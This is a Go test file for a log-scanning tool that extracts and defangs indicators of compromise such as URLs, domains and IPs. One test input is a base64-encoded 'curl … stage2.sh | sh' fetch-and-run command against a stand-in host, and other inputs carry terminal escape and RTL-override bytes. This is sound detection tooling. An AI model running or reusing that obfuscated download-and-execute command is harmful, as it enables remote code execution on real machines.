package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// runs returns the exit code, output and notes of the program.
func runs(t *testing.T, stdin string, args ...string) (code int, out, notes string) {
	t.Helper()
	var o, n bytes.Buffer
	code = run(args, strings.NewReader(stdin), &o, &n)
	return code, o.String(), n.String()
}

func TestOutput(t *testing.T) {
	code, out, notes := runs(t, "nothing here\nGET hxxp://evil[.]com/x from 203.0.113.9 and 203.0.113.9\n")
	assert.Equal(t, 0, code)
	assert.Empty(t, notes)
	//nolint:testifylint // JSON Lines, and the bytes are the contract
	assert.Equal(t, `{"line":2,"type":"url","value":"http://evil.com/x","raw":"hxxp://evil[.]com/x","start":4,"end":23,"defanged":true}
{"line":2,"type":"dns","value":"evil.com","raw":"evil[.]com","start":11,"end":21,"defanged":true}
{"line":2,"type":"ipv4","value":"203.0.113.9","raw":"203.0.113.9","start":29,"end":40,"defanged":false}
`, out)
}

func TestFlags(t *testing.T) {
	text := "http://evil.com/ from 203.0.113.9 T1059\n"
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"-types", "ipv4, dns"}, "dns evil.com ipv4 203.0.113.9"},
		{[]string{"-all"}, "url http://evil.com/ dns evil.com ipv4 203.0.113.9 attack_technique T1059"},
		{[]string{"-defang"}, "url hxxp[://]evil[.]com/ dns evil[.]com ipv4 203[.]0[.]113[.]9"},
		{[]string{"-"}, "url http://evil.com/ dns evil.com ipv4 203.0.113.9"},
	} {
		code, out, _ := runs(t, text, c.args...)
		require.Equal(t, 0, code, c.args)
		var got []string
		dec := json.NewDecoder(strings.NewReader(out))
		for dec.More() {
			var o object
			require.NoError(t, dec.Decode(&o))
			got = append(got, o.Type, o.Value)
		}
		assert.Equal(t, c.want, strings.Join(got, " "), c.args)
	}
}

func TestWrongUse(t *testing.T) {
	for _, args := range [][]string{{"-types", "ipv5"}, {"-all", "-types", "ipv4"}, {"-nope"}, {"-max-line", "-1"}} {
		code, out, notes := runs(t, "", args...)
		assert.Equal(t, 2, code, args)
		assert.Empty(t, out)
		assert.NotEmpty(t, notes)
	}
	code, out, notes := runs(t, "", "-h")
	assert.Equal(t, 0, code)
	assert.Empty(t, out)
	assert.Contains(t, notes, "journalctl | ioc")
}

func TestFiles(t *testing.T) {
	dir := t.TempDir()
	plain, zipped, broken := filepath.Join(dir, "a.log"), filepath.Join(dir, "b.log.gz"), filepath.Join(dir, "c.gz")
	require.NoError(t, os.WriteFile(plain, []byte("10.0.0.1\r\n\r\n10.0.0.2"), 0o600))
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	for i := range 5000 {
		fmt.Fprintf(w, "10.0.%d.%d\n", i/250, i%250)
	}
	require.NoError(t, w.Close())
	require.NoError(t, os.WriteFile(zipped, z.Bytes(), 0o600))
	require.NoError(t, os.WriteFile(broken, z.Bytes()[:z.Len()/2], 0o600))

	code, out, _ := runs(t, "", plain, zipped)
	assert.Equal(t, 0, code)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	assert.Len(t, lines, 5002)
	assert.Contains(t, lines[1], `"line":3,"type":"ipv4","value":"10.0.0.2"`)
	assert.Contains(t, lines[2], `b.log.gz","line":1,`)

	code, out, notes := runs(t, "", filepath.Join(dir, "none"), broken, plain)
	assert.Equal(t, 1, code)
	assert.Contains(t, notes, "none: no such file")
	assert.Contains(t, notes, "c.gz: the compressed data ends in the middle")
	assert.Contains(t, out, `"value":"10.0.0.2"`, "the rest is still read")
	assert.Greater(t, strings.Count(out, "c.gz"), 100, "and so is what there is of a cut file")
}

func TestLongLines(t *testing.T) {
	code, out, notes := runs(t, strings.Repeat("x ", 100)+"10.0.0.1\n10.0.0.2\n", "-max-line", "100")
	assert.Equal(t, 0, code)
	assert.NotContains(t, out, "10.0.0.1")
	assert.Contains(t, out, "10.0.0.2")
	assert.Contains(t, notes, "1 lines were longer")
}

// TestOrder holds that many workers print what one prints.
func TestOrder(t *testing.T) {
	var in strings.Builder
	for i := range 60_000 {
		fmt.Fprintf(&in, "Jun  3 08:26:38 web01 sshd[%d]: Failed password for root from 10.%d.%d.%d port %d ssh2\n", i, i>>16, i>>8&255, i&255, i&0x7fff)
	}
	old := runtime.GOMAXPROCS(1)
	defer runtime.GOMAXPROCS(old)
	_, want, _ := runs(t, in.String())
	runtime.GOMAXPROCS(4)
	_, got, _ := runs(t, in.String())
	assert.Equal(t, 60_000, strings.Count(want, "\n"))
	assert.Equal(t, want, got, "the same bytes at any GOMAXPROCS")
}

func TestUnpack(t *testing.T) {
	_, out, _ := runs(t, "a 10.0.0.1\necho Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3N0YWdlMi5zaCB8IHNoCg== | base64 -d\n", "-unpack", "-types", "url,ipv4")
	//nolint:testifylint // JSON Lines, and the bytes are the contract
	assert.Equal(t, `{"line":1,"type":"ipv4","value":"10.0.0.1","raw":"10.0.0.1","start":2,"end":10,"defanged":false}
{"line":2,"type":"url","value":"http://203.0.113.99/stage2.sh","raw":"http://203.0.113.99/stage2.sh","start":5,"end":65,"defanged":false,"unpacked":["base64"]}
{"line":2,"type":"ipv4","value":"203.0.113.99","raw":"203.0.113.99","start":5,"end":65,"defanged":false,"unpacked":["base64"]}
`, out)
}

func TestHostileText(t *testing.T) {
	_, out, _ := runs(t, "/tmp/\x1b[2J/<script> http://evil.com/\u202egnp.exe /tmp/\xff\"x\n")
	for _, c := range []string{"\x1b", "\u202e", "\xff"} {
		assert.NotContains(t, out, c)
	}
	dec := json.NewDecoder(strings.NewReader(out))
	n := 0
	for ; dec.More(); n++ {
		require.NoError(t, dec.Decode(&object{}))
	}
	assert.Positive(t, n)
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestOutputFails(t *testing.T) {
	var notes bytes.Buffer
	in := strings.Repeat("10.0.0.1\n", 1_000_000)
	assert.Equal(t, 1, run(nil, strings.NewReader(in), failing{}, &notes))
	assert.Contains(t, notes.String(), "disk full")
}

func TestJSONString(t *testing.T) {
	for _, s := range []string{"", "a", "\"\\\n\x00\x7f", "é中", "\u2028\u200b\u0085", strings.Repeat("x\"", 50)} {
		var got string
		b := appendString(nil, s)
		require.NoError(t, json.Unmarshal(b, &got), "%q", b)
		assert.Equal(t, s, got)
	}
	var got string
	require.NoError(t, json.Unmarshal(appendString(nil, "a\xffb"), &got))
	assert.Equal(t, "a\ufffdb", got)
}

func BenchmarkProgram(b *testing.B) {
	name := os.Getenv("IOC_BENCH_FILE")
	if name == "" {
		b.Skip("IOC_BENCH_FILE names no file")
	}
	st, err := os.Stat(name)
	require.NoError(b, err)
	b.SetBytes(st.Size())
	for b.Loop() {
		var out, notes bytes.Buffer
		require.Equal(b, 0, run([]string{"-all", name}, nil, &out, &notes))
	}
}
